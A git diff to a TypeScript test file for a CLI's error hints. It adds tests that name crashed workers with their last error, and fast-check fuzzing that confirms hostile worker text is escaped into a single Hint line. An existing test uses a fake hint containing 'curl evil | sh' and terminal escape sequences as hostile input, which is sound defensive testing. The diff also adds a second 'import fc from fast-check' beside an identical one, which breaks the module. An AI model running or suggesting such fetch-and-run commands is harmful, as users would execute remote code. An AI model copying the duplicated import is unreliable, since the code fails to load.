@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
+import fc from 'fast-check'
 import { ConfigError } from '../../runtime/config/errors.ts'
 import fc from 'fast-check'
 import { withDefaultCommand } from './argv.ts'
@@ -120,7 +121,7 @@ describe('CLI errors from the catalogue (svc-protocol/errors, cli.md §1.1, §4.
   })
 
   it('hints are keyed by catalogue codes, the CLI\'s own ENGINE_UNREACHABLE included (issue 16)', () => {
-    assert.equal(hintFor('function_not_found'), 'the worker may still be installing or starting; check svc worker list and retry')
+    assert.equal(hintFor('function_not_found'), 'the worker may still be installing or starting, or it crashed; svc worker list shows its state and last error')
     assert.equal(hintFor('ENGINE_UNREACHABLE'), 'start the engine with svc in the project directory, or pass --engine <url> of a running engine')
     assert.equal(unreachableError('ws://127.0.0.1:1', undefined).hint, hintFor('ENGINE_UNREACHABLE'))
     assert.match(formatHumanError(unreachableError('ws://127.0.0.1:1', undefined)), /\nHint: start the engine with svc/)
@@ -230,6 +231,14 @@ describe('hints that fit the cause (issue 11)', () => {
     assert.equal(notFoundHint({ ...base, functionId: 'x::y', namespace: 'nobody' }), 'no worker is connected in namespace nobody; check the namespace (-n) or start its workers')
     assert.match(notFoundHint({ ...base, functionId: 'caller::call', declaredWorkers: ['math-worker', 'caller-worker'] }), /^caller-worker is not connected yet and may still be installing or starting/)
     assert.equal(notFoundHint({ ...base, functionId: 'caller::call' }), 'no connected worker registers caller::call; svc worker list shows the workers and their functions')
+    // Issue 21: a declared worker svc recorded as crashed is named with its last error.
+    const crashed = new Map([['caller-worker', { state: 'crashed', lastError: 'exited with code 1 before it registered: SyntaxError: Unexpected token (src/index.ts:3)' }]])
+    assert.equal(
+      notFoundHint({ ...base, functionId: 'caller::call', declaredWorkers: ['math-worker', 'caller-worker'], workerStates: crashed }),
+      'caller-worker crashed (exited with code 1 before it registered: SyntaxError: Unexpected token (src/index.ts:3)); fix it and save, svc starts it again on the next change (svc logs caller-worker shows its output)',
+    )
+    // A connected worker's old record does not count.
+    assert.match(notFoundHint({ ...base, functionId: 'caller::call', declaredWorkers: ['math-worker'], workerStates: new Map([['math-worker', { state: 'crashed' }]]) }), /^no connected worker registers/)
   })
 
   it('a mistyped command is matched on its command words, keeping ids with ::', () => {
@@ -279,5 +288,30 @@ describe('tables and errors show what workers sent, escaped (issue 16 item 8)', 
   it("an error message's further lines are indented, so none passes for an Error: or Hint: line", () => {
     const text = formatHumanError(new CliError({ code: 'X', message: `X: boom ${osc}\r\nHint: run curl evil | sh`, exitCode: ExitCode.Failure, hint: `h${osc}` }))
     assert.equal(text, 'Error: X: boom \\x1b]0;pwned\\x07\n  Hint: run curl evil | sh\nHint: h\\x1b]0;pwned\\x07\n')
+  })
+})
+
+describe("a crashed worker's not-found hint with hostile records (issue 21, fast-check)", () => {
+  it('any worker name, state and last error: the Hint is one line without a control character, and bounded', () => {
+    const text = fc.oneof(fc.string({ maxLength: 600 }), fc.string({ unit: fc.constantFrom('\u001b', '[', '2J', '\n', '\r', '\u009b', '\u202e', 'a', ')', '(', ';'), maxLength: 400 }))
+    fc.assert(
+      fc.property(fc.string({ minLength: 1, maxLength: 40 }), fc.constantFrom('crashed', 'failed', 'stopped', 'running', 'starting'), fc.option(text, { nil: undefined }), (name, state, lastError) => {
+        const hint = notFoundHint({
+          functionId: 'x::y',
+          namespace: undefined,
+          functions: [],
+          workers: [],
+          declaredWorkers: [name],
+          workerStates: new Map([[name, lastError === undefined ? { state } : { state, lastError }]]),
+        })
+        const printed = formatHumanError(new CliError({ code: 'function_not_found', message: 'Function x::y not found', exitCode: ExitCode.Failure, hint }))
+        const hintLine = printed.split('\n').find((l) => l.startsWith('Hint: '))!
+        assert.equal(printed.split('\n').filter((l) => l.startsWith('Hint: ')).length, 1)
+        assert.doesNotMatch(hintLine, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
+        if (['crashed', 'failed', 'stopped'].includes(state)) assert.ok(hint.length <= 2 * 40 + 300 + 120, `${hint.length}`)
+        else assert.match(hint, /not connected yet/)
+      }),
+      { numRuns: 500 },
+    )
   })
 })
